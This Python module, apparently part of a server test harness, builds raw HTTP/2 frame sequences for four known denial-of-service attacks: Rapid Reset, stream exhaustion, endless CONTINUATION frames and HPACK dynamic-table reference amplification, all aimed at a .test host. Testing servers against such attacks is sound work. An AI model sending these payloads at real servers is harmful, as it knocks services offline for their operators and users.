"""The client's side of attacks on HTTP/2 (RFC 9113) and its header compression (RFC 7541)."""

from __future__ import annotations

from hpack import Encoder, NeverIndexedHeaderTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
REQUEST = (
    (":method", "GET"),
    (":scheme", "http"),
    (":authority", "h2.attacked.test"),
    (":path", "/streams"),
)
# Index 62 is the dynamic table's youngest entry; a byte each refers to it.
REFERENCE = b"\xbe"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113 section 4.1)."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def _begun() -> tuple[bytes, bytes, bytes]:
    """Settings, the block of the first request, and the block of any later one."""
    encoder = Encoder()
    return frame(SETTINGS, 0, 0), encoder.encode(REQUEST), encoder.encode(REQUEST)


def rapid_reset(streams: int = 2_000) -> tuple[bytes, int]:
    """Each request is given up as soon as it is made (CVE-2023-44487)."""
    settings, first, later = _begun()
    made = [
        frame(HEADERS, END_HEADERS | END_STREAM, stream, later if stream > 1 else first)
        + frame(RST_STREAM, 0, stream, bytes(4))
        for stream in range(1, 2 * streams, 2)
    ]
    return settings + b"".join(made), streams


def open_streams(streams: int = 4_000) -> tuple[bytes, int]:
    """More requests at once than a connection may have, none of which ends."""
    settings, first, later = _begun()
    made = [frame(HEADERS, END_HEADERS, stream, later if stream > 1 else first) for stream in range(1, 2 * streams, 2)]
    return settings + b"".join(made), streams


def continuations(frames: int = 20_000) -> tuple[bytes, int]:
    """One head in frames without end (VU#421644)."""
    settings, first, _ = _begun()
    grown = Encoder().encode([("x-more", "v" * 40)], huffman=False)
    made = [frame(CONTINUATION, 0, 1, grown) for _ in range(frames)]
    return settings + frame(HEADERS, END_STREAM, 1, first) + b"".join(made), 1


def references(streams: int = 400, each: int = 15) -> tuple[bytes, int]:
    """A large field is put into the table once, and referred to by a byte each from then on (CVE-2016-6581)."""
    settings, first, _ = _begun()
    encoder = Encoder()
    encoder.encode(REQUEST)
    large = encoder.encode([("x-large", "v" * 3_900)], huffman=False)
    # Fields that stay out of the table leave the large one where it is.
    block = Encoder().encode([NeverIndexedHeaderTuple(*field) for field in REQUEST]) + REFERENCE * each
    flags = END_HEADERS | END_STREAM
    made = [frame(HEADERS, flags, stream, block) for stream in range(3, 2 * streams, 2)]
    return settings + frame(HEADERS, flags, 1, first + large) + b"".join(made), streams
